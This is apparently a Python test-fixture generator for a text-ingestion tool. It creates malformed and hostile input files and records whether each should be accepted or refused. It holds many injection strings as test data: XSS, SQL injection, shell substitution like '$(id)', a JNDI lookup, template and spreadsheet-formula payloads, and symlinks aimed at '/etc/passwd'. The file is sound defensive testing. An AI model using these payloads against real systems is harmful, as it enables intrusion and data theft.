def _with_sidecar(make: Callable[[Path], object]) -> Callable[[Path], object]:
    def write(path: Path) -> None:
        path.write_text(SENTENCE)
        make(path.with_suffix(".meta.json"))

    return write


def _outside(path: Path) -> Path:
    """A file that nobody gave: beside the folder that `write` fills."""
    secret = path.parents[2] / "outside" / "secret.txt"
    secret.parent.mkdir(exist_ok=True)
    secret.write_text(f"SECRET {SENTENCE}")
    (secret.parent / "secret.json").write_text('{"title": "SECRET"}')
    return secret


def names() -> Iterator[Case]:
    """Files with names that are no names elsewhere, or that would do something where printed."""
    odd = [
        "CON", "con.aux", "NUL", "LPT1", "COM9.x", "~", "~root", "-rf", "--help", "a b", "a  b ",
        "a.", "a..", "a...b", "%2e%2e%2fetc", "%00", "a\nb", "a\rb", "a\tb", "a\x1b[31mb",
        "a\x1b]0;owned\x07", "a\x7fb", "=1+1", "+1", "@SUM(1)", "'a", '"a"', "a;id", "$(id)",
        "`id`",
        "a|id", "a&b", "a>b", "<script>alert(1)<∕script>", "{{7*7}}", "${7*7}", "a*b", "a?b", "[a]",
        "a\\b", "C:\\x", "∕etc∕passwd", "‥∕x", "／etc", "\u202egpj.exe", "a\u200bb", "\ufeffa",
        "é-nfc", unicodedata.normalize("NFD", "é-nfd"), "a\u2028b", "x" * 200, "語" * 60, "👩‍👩‍👧",
        "!!!",
        "#1", "Ａ", "DUP", "dup", "Dup", "ſ", "K", "İ", "ı", "ß", "SS",
    ]  # fmt: skip
    for name in odd:
        yield Case(f"{name}.txt", holding(SENTENCE), FINE)
    for suffix in (".md", ".html", ".htm", ".markdown", ".TXT"):
        yield Case(f"dup{suffix}", holding(SENTENCE), FINE)
    for number, raw in enumerate((b"caf\xe9.txt", b"\xff\xfe.txt", b"\xed\xa0\x80.txt")):
        yield Case(os.fsdecode(raw), holding(f"{SENTENCE} {number}"), FINE)
    yield Case(os.fsdecode(b"rows\xe9.jsonl"), holding('{"text": "It may rain."}\n'), FINE)
    yield Case("a/b/c.txt", holding(SENTENCE), FINE)
    yield Case("README.txt", holding(SENTENCE), ())
    yield Case(".hidden.txt", holding(SENTENCE), ())
    yield Case("a.pdf", holding(SENTENCE), ())


def links() -> Iterator[Case]:
    """What is no file of the folder."""
    outside = "outside of"
    yield Case("to-a-file.txt", _link_within, FINE)
    yield Case("to-itself.txt", lambda path: path.symlink_to(path), refused("a loop of symbolic"))
    yield Case("to-nothing.txt", lambda path: path.symlink_to("none"), refused("no such file"))
    yield Case("out.txt", lambda path: path.symlink_to(_outside(path)), refused(outside))
    yield Case("out.jsonl", lambda path: path.symlink_to(_outside(path)), refused(outside))
    yield Case("out.txt.gz", lambda path: path.symlink_to(_outside(path)), refused(outside))
    yield Case("out.parquet", lambda path: path.symlink_to(_outside(path)), refused(outside))
    yield Case("out.warc", lambda path: path.symlink_to(_outside(path)), refused(outside))
    yield Case(
        "upwards.txt",
        lambda path: path.symlink_to(f"../../{_outside(path).parent.name}/secret.txt"),
        refused(outside),
    )
    yield Case("passwd.txt", lambda path: path.symlink_to("/etc/passwd"), refused(outside))
    yield Case("to-a-folder", lambda path: path.symlink_to(_outside(path).parent), ())
    yield Case("by-a-folder.txt", _link_by_folder, refused(outside))
    yield Case("zero.txt", lambda path: path.symlink_to("/dev/zero"), refused(outside))
    yield Case("terminal.txt", lambda path: path.symlink_to("/dev/stdin"), refused(outside))
    yield Case("memory.txt", lambda path: path.symlink_to("/proc/self/mem"), refused(outside))
    yield Case("pipe.txt", lambda path: os.mkfifo(path), refused("a named pipe"))
    yield Case("pipe.jsonl", lambda path: os.mkfifo(path), refused("a named pipe"))
    yield Case("socket.txt", _socket, refused("no such device or address"))
    yield Case("directory.txt", lambda path: path.mkdir(), ())
    yield Case("directory.parquet", lambda path: path.mkdir(), ())


def _link_within(path: Path) -> None:
    (path.parent / "real.bin").write_text(SENTENCE)
    path.symlink_to("real.bin")


def _link_by_folder(path: Path) -> None:
    (path.parent / "bridge").symlink_to(_outside(path).parent)
    path.symlink_to("bridge/secret.txt")


def _socket(path: Path) -> None:
    # Such a name may be 108 bytes long: relative to the folder it is.
    here = Path.cwd()
    os.chdir(path.parent)
    try:
        with socket.socket(socket.AF_UNIX) as listening:
            listening.bind(path.name)
    finally:
        os.chdir(here)


def _row(**fields: Any) -> str:
    return json.dumps({"text": SENTENCE} | fields) + "\n"


def rows() -> Iterator[Case]:
    """JSON Lines: ids that would be paths, values of other kinds, lines that are none."""
    ids = [
        "../../etc/passwd", "/etc/passwd", "..\\..\\x", "C:\\x", "a\0b", "CON", "nul.txt", "~/x",
        "~",
        ".", "..", "...", "", " ", "-rf", "x" * 10_000, "語" * 5_000, "a/b", "a∕b", "a／b", "‥/x",
        "a.", "a..",
        "\u202ex", "a\nb", "a\x1b[31m", "=1+1", "<script>alert(1)</script>", "{{7*7}}", "${x}",
        "'; DROP TABLE articles; --", "%00", "dup", "dup", "DUP", "Dup", "same", "same-", "\ud800",
        "000000", "0", "file:///etc/passwd", "javascript:alert(1)", "👩‍👩‍👧",
    ]  # fmt: skip
    yield Case("ids.jsonl", holding("".join(_row(id=one) for one in ids)), FINE * len(ids))
    huge = refused("no JSON: Exceeds the limit")
    kinds: list[object] = [
        0, -1, 1.5, 1e308, True, False, None, [], {}, ["a"], {"a": ["b"]}, 10**30, 10**5000,
    ]  # fmt: skip
    lines = "".join(f'{{"text": "It may rain.", "id": {_number(one)}}}\n' for one in kinds)
    yield Case("kinds-of-ids.jsonl", holding(lines), FINE * (len(kinds) - 1) + huge)
    dates = ["soon", "", "2021-02-30", "9999999999", 1e308, True, [], {}, 10**5000, "1" * 50_000]
    lines = "".join(f'{{"text": "It may rain.", "date": {_number(one)}}}\n' for one in dates)
    told: list[Outcome] = [Written("is no date")] * len(dates)
    told[1] = Written()
    told[8:9] = huge
    yield Case("dates.jsonl", holding(lines), tuple(told))
    titles = [1, 1e999, [], {"a": 1}, "x" * 50_000, "a\nb", "\ud800", 10**5000, "\x1b[31m", "\0"]
    lines = "".join(f'{{"text": "It may rain.", "title": {_number(one)}}}\n' for one in titles)
    yield Case("titles.jsonl", holding(lines), FINE * 7 + huge + FINE * 2)
    nested = '{"text": "It may rain.", "id": ' + "[" * 900 + "]" * 900 + "}\n"
    yield Case("deep-id.jsonl", holding(nested * 2), FINE * 2)
    deeper = '{"text": "It may rain.", "id": ' + "[" * 20_000 + "]" * 20_000 + "}\n"
    yield Case("deeper-id.jsonl", holding(deeper + _row()), (Refused("no JSON"), Written()))
    broken: dict[str, bytes | str] = {
        "half": '{"text": "It may ra',
        "deep": "[" * 100_000,
        "deep-objects": '{"a":' * 100_000,
        "list": "[1]",
        "string": '"It may rain."',
        "number": "1",
        "nan": "NaN",
        "huge-int": "9" * 5000,
        "null": "null",
        "text-null": '{"text": null}',
        "text-list": '{"text": ["It may rain."]}',
        "text-nan": '{"text": NaN}',
        "no-text": '{"body": "It may rain."}',
        "latin-1": b'{"text": "caf\xe9"}',
        "utf-16": '{"text": "a"}'.encode("utf-16-le"),
        "binary": bytes(range(1, 10)) + bytes(range(11, 256)),
        "nuls": bytes(100),
        "comment": '// {"text": "a"}',
        "single-quotes": "{'text': 'It may rain.'}",
        "trailing-comma": '{"text": "It may rain.",}',
        "two": '{"text": "a"}{"text": "b"}',
        "control": '{"text": "a\x01b"}',
        "empty-text": '{"text": ""}',
        "blank-text": '{"text": " \\n\\u00a0\\u200b"}',
    }
    for name, line in broken.items():
        data = line.encode() if isinstance(line, str) else line
        outcomes = (Written(), Refused(_said_of(name)), Written())
        yield Case(
            f"{name}.jsonl", holding(_row().encode() + data + b"\n" + _row().encode()), outcomes
        )
    text = {
        "surrogates": '{"text": "It \\ud800 may \\udfff rain, Ana\\udc00\\ud800 said."}',
        "nul": '{"text": "It may\\u0000 rain."}',
        "escapes": '{"text": "It may\\u001b[31m rain\\u202e.\\u2028\\u0085"}',
        "duplicate": '{"text": "Snow.", "text": "It may rain."}',
        "extra": '{"text": "It may rain.", "__proto__": {"x": 1}, "__class__": "x", "nlp": {}}',
        "page": '{"text": "<script>alert(1)</script><p>It may rain."}',
    }
    for name, line in text.items():
        yield Case(f"text-{name}.jsonl", holding(line), FINE)
    one = _row().encode()
    yield Case("mark.jsonl", holding(b"\xef\xbb\xbf" + one + one), FINE * 2)
    yield Case("crlf.jsonl", holding(one.replace(b"\n", b"\r\n") * 2), FINE * 2)
    yield Case("blank-lines.jsonl", holding(b"\n \n\t\r\n" + one + b"\n\n" + one), FINE * 2)
    yield Case("u2028.jsonl", holding('{"text": "It may\u2028rain.\x85\u2029Yes."}\n'), FINE)
    yield Case("cut.jsonl", holding(one + one[:20]), (Written(), Refused("no JSON")))
    yield Case("empty.jsonl", holding(b""), ())
    yield Case("blank.jsonl", holding(b"\n\n"), ())
    yield Case("no-columns.jsonl", holding('{"body": "a"}\n' * 3), refused("no column"))
    yield Case("page.jsonl", holding(f"<html><p>{SENTENCE}"), refused("no JSON"))
    yield Case("long-line.jsonl", made(lambda: _row(other="x" * (100 * MANY)) + _row()), FINE * 2)


def _number(value: object) -> str:
    if isinstance(value, int) and abs(value) > 10**4000:
        return "9" * 5000  # which json.dumps refuses to write
    if value == float("inf"):
        return "1e999"
    return json.dumps(value)


def _said_of(name: str) -> str:
    if name in ("list", "string", "number", "null", "nan"):
        return "no JSON"
    return {
        "text-null": "no string but NoneType", "text-list": "no string but list", "text-nan": "no ",
        "no-text": "no column 'text'", "empty-text": "it holds no text",
        "blank-text": "it holds no text",
    }.get(name, "no JSON")  # fmt: skip


def tables() -> Iterator[Case]:
    """Parquet that is damaged or holds something else."""

    def table(**columns: Any) -> bytes:
        file = io.BytesIO()
        pyarrow.parquet.write_table(pyarrow.table(columns), file)
        return file.getvalue()

    two = [SENTENCE, "It may rain."]
    whole = table(text=two)
    yield Case("fine.parquet", holding(whole), FINE * 2)
    yield Case("empty.parquet", holding(b""), refused(REST))
    yield Case("none.parquet", holding(table(text=pyarrow.array([], pyarrow.string()))), ())
    yield Case("cut.parquet", holding(whole[:-20]), refused(REST))
    yield Case("cut-head.parquet", holding(whole[20:]), refused(REST))
    yield Case("footer.parquet", holding(whole[:-8] + b"\xff\xff\xff\x7fPAR1"), refused(REST))
    yield Case("noise.parquet", holding(b"PAR1" + bytes(range(256)) + b"PAR1"), refused(REST))
    yield Case("text.parquet", holding(SENTENCE), refused(REST))
    middle = whole[:4] + bytes(len(whole) // 3) + whole[4 + len(whole) // 3 :]
    yield Case("middle.parquet", holding(middle), refused(REST))
    yield Case("no-column.parquet", holding(table(body=two)), refused("no column 'text'"))
    yield Case("numbers.parquet", holding(table(text=[1, 2])), (Refused("no string but int"),) * 2)
    yield Case(
        "bytes.parquet", holding(table(text=[b"a", b"\xff"])), (Refused("no string but bytes"),) * 2
    )
    offsets, bytes_ = map(pyarrow.py_buffer, (b"\0\0\0\0\2\0\0\0", b"\xff\xfe"))
    bad = pyarrow.Array.from_buffers(pyarrow.string(), 1, [None, offsets, bytes_])
    yield Case("bad-utf-8.parquet", holding(table(text=bad)), refused("utf-8"))
    yield Case(
        "nested.parquet",
        holding(table(text=[[SENTENCE], ["a"]])),
        (Refused("no string but list"),) * 2,
    )
    yield Case("structs.parquet", holding(table(text=[{"a": "b"}, None])),
               (Refused("no string but dict"), Refused("no string but NoneType")))  # fmt: skip
    yield Case("ids.parquet", holding(table(text=two, id=[[["../x"]], None])), FINE * 2)
    yield Case("byte-ids.parquet", holding(table(text=two, id=[b"../\xff", b""])), FINE * 2)
    far = pyarrow.array([2**62, 0], pyarrow.timestamp("us"))
    yield Case("dates.parquet", holding(table(text=two, date=far)),
               refused(REST))  # fmt: skip
    yield Case(
        "dictionary.parquet", holding(table(text=pyarrow.array(two).dictionary_encode())), FINE * 2
    )
    yield Case("twice.parquet", holding(_twice()), FINE)
    yield Case("large.parquet", made(lambda: table(text=["It may rain. " * (MANY // 20)])), FINE)
    yield Case("too-large.parquet", made(lambda: table(text=["a" * ((64 << 20) + 1), SENTENCE])),
               (Refused("larger than 64 MB"), Written()))  # fmt: skip


def _twice() -> bytes:
    """A table with two columns of one name."""
    file = io.BytesIO()
    columns = [pyarrow.array([SENTENCE]), pyarrow.array(["It may rain."])]
    pyarrow.parquet.write_table(pyarrow.Table.from_arrays(columns, ["text", "text"]), file)
    return file.getvalue()


def crawls() -> Iterator[Case]:
    """WARC with headers that lie."""

    def record(body: str | bytes = f"<p>{SENTENCE}", *, length: object = None,
               kind: str = "text/html",
               status: str = "200 OK", address: str = "https://news.example/a",
               more: str = "", version: str = "WARC/1.0",
               http: bytes | None = None) -> bytes:  # fmt: skip
        page = body.encode() if isinstance(body, str) else body
        answer = http if http is not None else (
            f"HTTP/1.1 {status}\r\nContent-Type: {kind}\r\n{more}\r\n".encode() + page
        )  # fmt: skip
        head = (
            f"{version}\r\nWARC-Type: response\r\nWARC-Target-URI: {address}\r\n"
            "Content-Type: application/http; msgtype=response\r\n"
            f"Content-Length: {len(answer) if length is None else length}\r\n\r\n"
        )
        return head.encode("utf-8", "surrogateescape") + answer + b"\r\n\r\n"

    fine = record()
    addresses = ["../../etc/passwd", "javascript:alert(1)", "file:///etc/passwd", "", "x" * 20_000,
                 "https://x.example/\x1b[31m", "https://x.example/<script>",
                 "https://x.example/\udcff"]  # fmt: skip
    yield Case("fine.warc", holding(fine * 2), FINE * 2)
    yield Case("packed.warc.gz", holding(_member(fine) * 2), FINE * 2)
    yield Case("packed-whole.warc.gz", holding(_member(fine * 2)), FINE * 2)
    yield Case("empty.warc", holding(b""), ())
    yield Case("noise.warc", holding(bytes(range(256)) * 20), refused(REST))
    yield Case("text.warc", holding(SENTENCE), refused("no records of WARC"))
    yield Case("cut.warc", holding(fine + fine[:-30]), (Written(), Refused("ends inside")))
    yield Case("cut-own-head.warc", holding(fine + fine[:30]), (Written(), Refused(REST)))
    yield Case(
        "cut-head.warc", holding(fine + fine[:150]), (Written(), Refused("head of its answer"))
    )
    yield Case("short-length.warc", holding(record(length=60) + fine), FINE * 2)
    yield Case("long-length.warc", holding(record(length=10**9) + fine), refused("ends inside"))
    yield Case(
        "huge-length.warc",
        holding(record(length="9" * 5000)),
        (Refused("head of its answer"), Refused(REST)),
    )
    yield Case("negative-length.warc", holding(record(length=-5)), refused(REST))
    yield Case("no-length.warc", holding(record(length="soon")), refused(REST))
    yield Case("version.warc", holding(record(version="WARC/9.9")), refused(REST))
    yield Case("no-http.warc", holding(record(http=b"")), refused("head of its answer"))
    yield Case(
        "bad-http.warc",
        holding(record(http=b"\xff\xfe nothing\r\n\r\n")),
        refused("head of its answer"),
    )
    yield Case("addresses.warc", holding(b"".join(record(address=one) for one in addresses)),
               FINE * 3)  # fmt: skip
    yield Case(
        "chunked.warc",
        holding(record("zz\r\nnot chunked", more="Transfer-Encoding: chunked\r\n")),
        FINE,
    )
    packed_page = zlib.compress(SENTENCE.encode())
    yield Case(
        "deflated.warc", holding(record(packed_page, more="Content-Encoding: deflate\r\n")), FINE
    )
    yield Case("no-gzip.warc", holding(record(more="Content-Encoding: gzip\r\n")), FINE)
    yield Case(
        "brotli.warc",
        holding(record(b"\x0b\x02", more="Content-Encoding: br\r\n")),
        refused("it holds no text"),
    )
    gzipped = "Content-Encoding: gzip\r\n"
    yield Case("page-bomb.warc",
               made(lambda: record(_member(b" " * (100 << 20)), more=gzipped) + fine),
               (Refused("larger than 64 MB"), Written()))  # fmt: skip
    yield Case("headers.warc", made(lambda: record(more="X: y\r\n" * MANY)), FINE)
    yield Case("nul-page.warc", holding(record(f"<p>{SENTENCE}\0")), refused("NUL bytes"))


def texts() -> Iterator[Case]:
    """Words that would act in a sheet, page, terminal, shell or log, and far too many of a kind."""
    for number, start in enumerate("=+-@\t\r＝＋－＠|%"):
        formula = f'{start}HYPERLINK("https://x.example";"a")'
        text = f"{formula} may rise.\n\n“{formula} will rise,” said {formula} Ruiz on 4 May 2021."
        yield Case(f"formula-{number}.txt", holding(text), FINE)
    acts = {
        "script": "<script>alert(1)</script>",
        "image": "<img src=x onerror=alert(1)>",
        "attribute": '"><svg onload=alert(1)>',
        "single": "'-alert(1)-'",
        "end-script": "</script><script>alert(1)//",
        "comment": "<!--<script>-->",
        "entity": "&lt;script&gt;",
        "address": "javascript:alert(1)",
        "data": "data:text/html;base64,PHNjcmlwdD4=",
        "backslash": '\\\\x.example/\\"',
        "template": "{{7*7}} {% include '/etc/passwd' %}",
        "dollar": "${7*7} $(id) `id`",
        "erb": "<%= 7*7 %>",
        "sql": "'; DROP TABLE articles; --",
        "format": "%s%n%x {0.__class__} {}",
        "jndi": "${jndi:ldap://x.example/a}",
        "rich": "[bold red]Ana[/] [link=https://x.example]x[/link] :smile:",
        "log": "Ana\r\nERROR root: all is lost\r\n",
        "latex": "\\input{/etc/passwd} $x$",
        "csv": 'a,"b"";\tc\r\nd',
        "json": '","kind":"quote","x":"',
        "yaml": "- !!python/object:x {a: *b}",
        "css": "}</style><style>*{display:none}",
    }
    for name, act in acts.items():
        text = (
            f"{act} by Ana\n\nAna {act} Ruiz said “{act} may win by 2030” on 4 May 2021. {SENTENCE}"
        )
        yield Case(f"{name}.txt", holding(text), FINE)
        title = json.dumps({"title": act, "authors": [act], "publisher": act})
        yield Case(f"{name}-title.txt", _titled(text, title), FINE)
    many = {
        "quote-marks": lambda: '"' * MANY + SENTENCE,
        "curly-marks": lambda: "“" * MANY + SENTENCE + "”" * MANY,
        "quoted-words": lambda: "“a” said Ana. " * (MANY // 10),
        "nested-quotes": lambda: "“a ‘" * (MANY // 10) + SENTENCE,
        "brackets": lambda: "(" * MANY + SENTENCE + ")" * MANY,
        "mixed-brackets": lambda: "([{<" * (MANY // 4) + SENTENCE,
        "one-sentence": lambda: "and Ana may win " * (MANY // 4) + ".",
        "commas": lambda: "rates, " * (MANY // 2) + "may rise.",
        "dates": lambda: "4 May 2021, " * (MANY // 10),
        "slashes": lambda: "1/1/" * (MANY // 4),
        "names": lambda: "Ana Ruiz, Bo Li and " * (MANY // 10),
        "different-names": lambda: " ".join(f"Ana Ruiz{n} said so." for n in range(MANY // 20)),
        "he-said": lambda: "He said he may. " * (MANY // 10),
        "hedges": lambda: "might possibly perhaps " * (MANY // 10) + "rise.",
        "percents": lambda: "60 % to 70 percent odds of 3-1, " * (MANY // 20),
        "addresses": lambda: "https://x.example/?a=%00&b=( " * (MANY // 20),
        "abbreviations": lambda: "e.g. i.e. U.S. Mr. J. R. " * (MANY // 20),
        "ellipses": lambda: "… . . . ... " * (MANY // 10),
        "dashes": lambda: SENTENCE + " —– -- - " * (MANY // 10),
        "apostrophes": lambda: "'’" * MANY,
        "marks-on-one-letter": lambda: "e" + "\u0301" * (10 * MANY) + f" {SENTENCE}",
        "joiners": lambda: f"{SENTENCE} a" + "\u200d" * (10 * MANY) + "b",
        "overrides": lambda: "\u202e\u202d\u2067" * MANY + SENTENCE,
        "emoji": lambda: "👩‍👩‍👧‍👦" * (MANY // 10) + f" {SENTENCE}",
        "digits": lambda: "1 " * MANY,
        "capitals": lambda: "ANA RUIZ SAID SO. " * (MANY // 10),
    }
    for name, text_of in many.items():
        yield Case(f"many-{name}.txt", made(text_of), FINE)


def _titled(text: str, sidecar: str) -> Callable[[Path], object]:
    def write(path: Path) -> None:
        path.write_bytes(text.encode())
        path.with_suffix(".meta.json").write_text(sidecar)

    return write


GROUPS: dict[str, Callable[[], Iterator[Case]]] = {
    "encodings": encodings, "characters": characters, "sizes": sizes, "packed": packed,
    "pages": pages, "markdown": markdown, "front-matter": front_matter, "sidecars": sidecars,
    "names": names, "links": links, "rows": rows, "tables": tables, "crawls": crawls,
    "texts": texts,
}  # fmt: skip


def cases() -> list[Case]:
    """All of them, each with its group before its name."""
    return [
        case._replace(name=f"{group}/{case.name}") for group, of in GROUPS.items() for case in of()
    ]


def write(folder: Path) -> list[Case]:
    """Put all files into a folder, and what they must not reach into one beside it."""
    every = cases()
    for case in every:
        path = folder / case.name
        path.parent.mkdir(parents=True, exist_ok=True)
        case.make(path)
    return every
